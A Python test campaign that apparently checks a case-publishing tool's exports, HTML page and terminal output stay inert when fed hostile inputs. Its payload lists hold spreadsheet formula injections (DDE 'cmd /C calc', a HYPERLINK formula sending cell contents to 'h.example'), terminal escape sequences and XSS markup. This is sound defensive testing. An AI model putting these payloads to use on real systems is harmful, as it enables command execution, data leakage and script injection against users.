"""Texts that would run in a spreadsheet, a terminal or a browser go through every export and come back as they were."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import tempfile
import zipfile
from collections.abc import Callable, Iterator, Sequence
from contextlib import closing
from datetime import date
from pathlib import Path
from random import Random

import lxml.html
import msgspec
import openpyxl
from pyarrow import parquet

from campaigns.campaign import Campaign, Outcome, Trial
from campaigns.commands import said
from harmledger.model.case import CaseView
from harmledger.publish import shapes
from harmledger.publish.columns import Cell, cells, names
from harmledger.publish.page import page
from harmledger.publish.rows import rows
from harmledger.publish.tables import rearm, table
from harmledger.standing import case_view

SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
LIVE = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://h.example?"&A1,"Old Mill")', "+1+cmd|' /C calc'!A0", "-2+3",
    "@SUM(A1:A9)", "\uff1d1+1", "\uff0bcmd|' /C calc'!A0", "=IMPORTXML(CONCAT(A1),\"//a\")", "=WEBSERVICE(A1)",
    "DDE;=cmd|' /C calc'!A0;x", 'a;"=1+1"', "'=1+1", "''=1", "\t=1+1", "\r=1+1", "\n=1+1", '",=1+1,"', "a\r\n=1+1\r\nb",
    "=1+1\t-9", ' ;  @SUM(1)', "{=1+1}", "%0A=1+1", "|=1+1", "1;-1;+1;'x",
)  # fmt: skip
DRIVING = (
    "\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;http://h.example\x1b\\press\x1b]8;;\x1b\\", "\x1b[2J\x1b[H", "\x1bc",
    "\x9b31mred", "\x9d0;t\x9c", "\x90q", "a\x08\x08b", "one\rtwo", "\x07", "\x00", "\x7f", "\x1b[6n", "\x1b[?1049h",
    "\u202e31 dead\u202c", "\u2066x\u2069", "\u2028new", "\u200f12", "\U000e0041", "\x1b]52;c;AAAA\x07", "\x85next",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)", "]]><b>", "&lt;b&gt;",
    "</style><script>alert(1)</script>", "' onmouseover='alert(1)", "{{7*7}}", "${7*7}", "<!--",
)  # fmt: skip
WHATS = ("documents", "claims", "incidents", "tallies")
DRIVES = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202d\u202e\u2028\u2029\U000e0000-\U000e007f]")
_NO_XML = re.compile("[\ud800-\udfff\ufffe\uffff]")


def hostile(rng: Random) -> str:
    """A text that means harm: one, or several run together."""
    parts = [rng.choice(rng.choice((LIVE, LIVE, DRIVING, MARKUP))) for _ in range(rng.choice((1, 1, 1, 2, 3)))]
    return rng.choice(("", "", "", " ", "North Wire ", "لجان ")) + rng.choice(("", ";", " ", "\n")).join(parts)


def _line(text: str) -> str:
    return json.dumps(text, ensure_ascii=True)


def inputs(rng: Random, room: Path) -> tuple[list[str], list[str]]:
    """Reports with such texts in every field that strangers fill; the inputs and the files told beside them."""
    folder = room / "reports"
    folder.mkdir()
    records = []
    for n in range(3):
        place, publisher = hostile(rng), hostile(rng)
        text = (
            f"Shells hit Kelmara on {6 + n} May 2031 and killed {3 + n} civilians, {publisher} said.\n{hostile(rng)}\n"
            f"Since January, {40 + n} people were killed in Kelmara, the Valley Observatory said. {place}\n"
        )
        told = {"id": f"{n}{hostile(rng)}", "title": hostile(rng), "publisher": publisher, "author": hostile(rng)}
        records.append(json.dumps({**told, "text": text, "url": f"https://x.example/{n}?{hostile(rng)}"}))
    (folder / "a.jsonl").write_text("\n".join(records) + "\n", "utf-8")
    name = "".join(c for c in hostile(rng) if c not in "/\0")[:60] + ".txt"
    (folder / name).write_text(f"A drone struck Kelmara on 9 May 2031 and killed two women. {hostile(rng)}\n", "utf-8")
    written = re.compile(r"[\x00-\x08\x0b-\x1f\x7f]")  # with these a list is refused whole
    manifest, places = room / "manifest.csv", room / "places.csv"
    with manifest.open("w", encoding="utf-8", newline="") as file:
        lines = [(name, written.sub("", hostile(rng)), written.sub("", hostile(rng)))]
        csv.writer(file).writerows((("file", "publisher", "title"), *(lines if not written.search(name) else ())))
    with places.open("w", encoding="utf-8", newline="") as file:
        heads = "id,name,alt_names,kind,admin1,country,lat,lon".split(",")
        label = re.sub(r"[\x00-\x1f|]", " ", hostile(rng))
        csv.writer(file).writerows((heads, ("k", label or "Kelmara", "Kelmara", "village", label, "XO", "10", "20")))
    return [str(folder)], ["--manifest", str(manifest), "--places", str(places)]


def _live(cell: str) -> bool:
    """Whether a spreadsheet runs a cell or, splitting at semicolons, a part of it."""
    parts = re.split("[;\t\r\n]", cell)
    return cell.startswith((*SIGNS, "\t", "\r", "\n")) or any(p.lstrip('" ').startswith(SIGNS) for p in parts)


def _told(view: CaseView, what: str) -> list[list[Cell]]:
    return [cells(what, row) for row in rows(view, what)]


def _same(found: Sequence[Sequence[object]], told: list[list[Cell]]) -> bool:
    return [[None if v == "" else v for v in row] for row in found] == [
        [None if v == "" else v for v in row] for row in told
    ]


def _as_csv(data: bytes, told: list[list[Cell]], _: str) -> Iterator[str]:
    _, *found = csv.reader(io.StringIO(data.decode("utf-8"), newline=""))
    for row, wanted in zip(found, told, strict=True):
        for cell, value in zip(row, wanted, strict=True):
            if isinstance(value, str) and _live(cell):
                yield f"a live cell: {cell!r}"
            back = rearm(cell) if isinstance(value, str) else cell
            if back != ("" if value is None else str(value)):
                yield f"{value!r} came back as {back!r}"


def _as_xlsx(data: bytes, told: list[list[Cell]], what: str) -> Iterator[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as packed:
        inside = b"".join(packed.read(name) for name in packed.namelist())
        if re.search(rb"<f[ >]|<hyperlink|externalLink|ddeLink|vbaProject", inside):
            yield "a formula or a link is in it"
    sheet = openpyxl.load_workbook(io.BytesIO(data))[what]
    for row, wanted in zip(list(sheet.iter_rows(values_only=True))[1:], told, strict=True):
        for cell, value in zip(row, wanted, strict=True):
            if isinstance(value, str):
                text = re.sub("_x([0-9A-F]{4})_", lambda m: chr(int(m[1], 16)), str(cell or ""))
                if rearm(text) != _NO_XML.sub("\ufffd", value) or (text and _live(text)):
                    yield f"{value!r} came back as {text!r}"
            elif cell != value:
                yield f"{value!r} came back as {cell!r}"


def _as_jsonl(data: bytes, told: list[list[Cell]], what: str) -> Iterator[str]:
    found = [cells(what, msgspec.json.decode(line, type=shapes.SHAPES[what])) for line in data.splitlines()]
    if not _same(found, told):
        yield "the rows came back otherwise"


def _as_geojson(data: bytes, told: list[list[Cell]], what: str) -> Iterator[str]:
    lat, lon = names(what).index("latitude"), names(what).index("longitude")
    wanted = [[v for n, v in enumerate(row) if n not in (lat, lon)] for row in told]
    found = [list(f["properties"].values()) for f in json.loads(data)["features"]]
    if not _same(found, wanted):
        yield "the properties came back otherwise"


def _as_parquet(data: bytes, told: list[list[Cell]], _: str) -> Iterator[str]:
    found = parquet.read_table(io.BytesIO(data)).to_pylist()
    if not _same([[v.isoformat() if isinstance(v, date) else v for v in row.values()] for row in found], told):
        yield "the columns came back otherwise"


def _as_gpkg(data: bytes, told: list[list[Cell]], what: str) -> Iterator[str]:
    with tempfile.NamedTemporaryFile(suffix=".gpkg") as file:
        file.write(data)
        file.flush()
        with closing(sqlite3.connect(f"file:{file.name}?mode=ro", uri=True)) as opened:
            listed = [name for name in names(what) if name not in ("latitude", "longitude")]
            there = {row[1] for row in opened.execute(f"PRAGMA table_info({what})")}
            chosen = ", ".join(f'"{name}"' for name in listed if name in there)
            found = opened.execute(f"SELECT {chosen} FROM {what} ORDER BY 1").fetchall()  # noqa: S608 (names of ours)
    at = [n for n, name in enumerate(names(what)) if name in there and name in listed]
    wanted = [[row[n] for n in at] for row in told]
    if not _same(sorted(found, key=str), sorted(wanted, key=lambda row: str(tuple(row)))):
        yield "the columns came back otherwise"


FORMS: dict[str, Callable[[bytes, list[list[Cell]], str], Iterator[str]]] = {
    "csv": _as_csv,
    "xlsx": _as_xlsx,
    "jsonl": _as_jsonl,
    "geojson": _as_geojson,
    "parquet": _as_parquet,
    "gpkg": _as_gpkg,
}


def _exports(view: CaseView) -> Iterator[str]:
    for what in WHATS:
        told = _told(view, what)
        for form, look in FORMS.items():
            if what != "documents" or form not in ("geojson", "gpkg"):
                for wrong in look(b"".join(table(view, what, form)), told, what):
                    yield f"{what} as {form}: {wrong[:300]}"


def _page(view: CaseView) -> Iterator[str]:
    made = page(view, "A case").decode("utf-8")
    if found := DRIVES.search(made):
        yield f"the page: U+{ord(found[0]):04X}"
    for element in lxml.html.document_fromstring(made).iter():
        if element.tag in ("script", "iframe", "object", "embed", "base", "form"):
            yield f"the page: <{element.tag}>"
        for name, value in element.attrib.items():
            if name.startswith("on") or (name in ("href", "src", "action") and not value.startswith("#")):
                yield f"the page: {name}={value[:80]!r}"


def _commands(view: CaseView, case: str) -> Iterator[tuple[str, ...]]:
    things = [i.id for i in view.incidents[:2]] + [d.id for d in view.documents[:2]]
    yield from (("show", thing, "--case", case) for thing in things)
    for command in (("doctor",), ("tally",), ("compare-claims",), ("compare-methods",), ("link", "list")):
        yield (*command, "--case", case)
    yield ("custody", view.documents[0].id, "--case", case)
    yield ("show", "\x1b[31mnone\x9b\u202e", "--case", case)
    yield ("verify", "--case", "\x1b]0;x\x07none")


def _trial(trial: Trial) -> Outcome:
    reports, beside = inputs(trial.rng, trial.room)
    case = str(trial.room / "case")
    ran = said("run", *reports, *beside, "--case", case)
    faults = [] if ran.status in (0, 3) else [f"run ended with {ran.status}: {ran.err[-300:]!r}"]
    view = case_view(case)
    printed = {"run": ran.out + ran.err}
    for command in _commands(view, case):
        done = said(*command)
        printed[" ".join(command[:2])] = done.out + done.err
    gaps = (("gaps", "--format", "csv"), ("places", "suggest"), ("gaps",))[trial.number % 3]
    for command in (("tally", "--format", "csv"), gaps):
        done = said(*command, "--case", case)
        if command == ("gaps",):
            printed["gaps"] = done.out + done.err
            continue
        for row in list(csv.reader(io.StringIO(done.out.decode("utf-8"), newline="")))[1:]:
            numbers = (cell for cell in row if not re.fullmatch(r"-?[\d.]+", cell))
            faults += [f"{command[0]}: a live cell {cell!r}" for cell in numbers if _live(cell)]
    for command_, text in printed.items():
        if found := DRIVES.search(text.decode("utf-8", "replace")):
            faults.append(f"{command_}: U+{ord(found[0]):04X} reaches the terminal")
    faults += [*_exports(view), *_page(view)]
    counted = {"documents": len(view.documents), "tables": len(WHATS) * len(FORMS) - 2, "screens": len(printed)}
    return Outcome(tuple(dict.fromkeys(faults)), counted)


CAMPAIGNS = (
    Campaign(
        "live-texts",
        "formulas, terminal escapes and markup in every field of reports, file names and lists go through every export",
        "no cell, screen or page is live; what is read back is what was written, letter for letter",
        200,
        2,
        _trial,
    ),
)
